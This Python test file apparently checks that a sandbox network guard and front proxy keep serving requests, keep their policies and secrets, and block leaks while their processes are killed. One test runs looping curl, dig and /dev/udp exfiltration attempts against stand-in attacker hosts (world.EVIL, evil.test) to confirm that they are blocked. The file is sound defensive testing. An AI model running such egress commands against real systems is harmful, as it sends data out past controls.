"""Attacks while something dies: the guard, the front. What comes is served by the next one, and nothing leaks."""
import os
import signal
import threading
import unittest

import attack
from attack import NAMES, until, world


def setUpModule():
    attack.begin()


class Death(attack.Case):
    def tearDown(self):
        """As for all others, but for who has died."""
        self.assertIsNone(attack.site.process.poll())
        self.assertEqual(attack.site.ask("GET", "/health").status, 204)
        self.look()

    def kill_guard(self):
        """As if it had crashed; a process of the server that this test has started."""
        old = attack.guard()
        os.kill(old, signal.SIGKILL)
        self.assertTrue(until(lambda: attack.guard() not in (None, old)), "there is another")

    KILLS = 4

    def test_the_next_one_serves_who_comes(self, user):
        """Requests all the time, and guards that die. What was open is cut, and a name that was asked for just before
        is asked for again; nothing hangs."""
        sandbox = self.sandbox(network=NAMES)
        sandbox.spawn("while [ ! -e /tmp/stop ]; do curl -s -m 30 -o /dev/null -w '%{http_code}\\n' http://a.test/who; "
                      "done >/tmp/codes; "
                      "echo done >>/tmp/codes")
        for _ in range(self.KILLS):
            seen = attack.bed.now()
            self.assertTrue(until(lambda: seen.requests(local=world.A)))
            self.kill_guard()
        seen = attack.bed.now()
        self.assertTrue(until(lambda: seen.requests(local=world.A)))
        sandbox.says("touch /tmp/stop")
        self.assertTrue(until(lambda: "done" in sandbox.says("cat /tmp/codes"), 40))
        codes = sandbox.says("cat /tmp/codes").split()
        self.assertEqual(set(codes) - {"000"}, {"200", "done"})
        self.assertLessEqual(codes.count("000"), 2 * self.KILLS, codes)

    def test_a_connection_made_while_there_is_none_waits(self, user):
        sandbox = self.sandbox(network=NAMES)
        old = attack.guard()
        os.kill(old, signal.SIGSTOP)  # it accepts nothing any more
        try:
            waiting = threading.Thread(target=lambda: said.append(sandbox.sh("curl -sS -m 40 http://a.test/who",
                                                                             user=user)))
            said = []
            waiting.start()
            until(lambda: "curl" in sandbox.says("cat /proc/[0-9]*/comm 2>/dev/null; true"))
        finally:
            os.kill(old, signal.SIGKILL)
        waiting.join()
        self.assertIn('"who": "a"', said[0][1])

    def test_nothing_leaks_meanwhile(self, user):
        sandbox, blocked = self.sandbox(network=NAMES), self.sandbox(allow_internet_access=False)
        attempts = (f"while :; do curl -s -m1 -o /dev/null http://{world.EVIL}/ & curl -s -m1 -o /dev/null "
                    f"http://evil.test/ & "
                    f"dig +tries=1 +time=1 x.evil.test @{world.EVIL} >/dev/null & echo x "
                    f">/dev/udp/{world.EVIL}/9999; wait; done")
        for one in (sandbox, blocked):
            one.spawn(attempts)
        with self.nothing():
            for _ in range(4):
                self.kill_guard()
        for one in (sandbox, blocked):
            one.says("pkill -f 'while :'; true")

    def test_policies_and_secrets_are_known_to_the_next(self, user):
        answer = attack.site.api("POST", "/secrets", {"name": f"kept-{user}", "value": "value-that-is-kept",
                                                      "metadata": {"sandglass.hosts": "a.test"}})
        self.assertIn(answer.status, (200, 201), answer)
        rules = {"a.test": [{"transform": {"headers": {"X-Rule": f"${{e2b.secrets.kept-{user}}}"}}}]}
        sandbox = self.sandbox(network=NAMES | {"rules": rules})
        changed = self.sandbox()
        self.assertEqual(changed.network(**NAMES).status, 204)
        self.sh(sandbox, "curl -sS -m10 https://a.test/who", user)
        self.kill_guard()
        with self.only(world.A, names=["a.test"]) as seen:
            self.assertIn('"who": "a"', self.sh(sandbox, "curl -sS -m20 https://a.test/who", user),
                          "with the same certificate")
            self.assertIn("value-that-is-kept", str(seen.requests(local=world.A)))
            self.assertNotIn('"who"', changed.sh(f"curl -sS -m5 http://{world.EVIL}/", user=user)[1])
            self.assertIn('"who": "a"', self.sh(changed, "curl -sS -m20 http://a.test/who", user))
        self.assertEqual(sandbox.network(denyOut=["0.0.0.0/0"]).status, 204, "and it takes changes")
        attack.site.api("DELETE", f"/secrets/kept-{user}")

    def test_the_front_dies_and_policies_stay(self, user):
        sandbox, blocked = self.sandbox(network=NAMES), self.sandbox(allow_internet_access=False)
        before = attack.bed.now()
        sandbox.spawn("rm -f /tmp/ended; curl -sS -m 60 -o /dev/null http://a.test/forever; echo ended >/tmp/ended")
        self.assertTrue(until(lambda: before.requests(target="/forever")))
        old = attack.site.front()
        os.kill(old, signal.SIGKILL)
        self.assertTrue(until(lambda: attack.child("sandglass-front") not in (None, old)))
        self.assertTrue(until(lambda: self.healthy()))
        with self.only(world.A, names=["a.test"]):
            self.assertIn('"who": "a"', self.sh(sandbox, "curl -sS -m10 http://a.test/who", user))
            self.assertNotIn('"who"', sandbox.sh(f"curl -sS -m5 http://{world.EVIL}/", user=user)[1])
            self.assertEqual(blocked.sh(f"curl -sS -m5 http://{world.A}/", user=user)[0], 7)
        self.assertNotIn("ended", sandbox.says("cat /tmp/ended 2>/dev/null; true"), "what was open stays open")
        self.assertEqual(sandbox.network(allow_internet_access=False).status, 204)
        self.assertTrue(until(lambda: "ended" in sandbox.says("cat /tmp/ended 2>/dev/null; true")))

    def healthy(self):
        try:
            return attack.site.ask("GET", "/health").status == 204
        except OSError:
            return False

    def test_both_die_at_once(self, user):
        sandbox = self.sandbox(network=NAMES)
        guard, front = attack.guard(), attack.site.front()
        os.kill(guard, signal.SIGKILL)
        os.kill(front, signal.SIGKILL)
        self.assertTrue(until(lambda: attack.guard() not in (None,
                                                             guard) and attack.child("sandglass-front") not in (None,
                                                                                                                front)))
        self.assertTrue(until(self.healthy))
        with self.only(world.A, names=["a.test"]):
            self.assertIn('"who": "a"', self.sh(sandbox, "curl -sS -m20 http://a.test/who", user))
            self.assertNotIn('"who"', sandbox.sh(f"curl -sS -m5 http://{world.EVIL}/", user=user)[1])


if __name__ == "__main__":
    unittest.main()
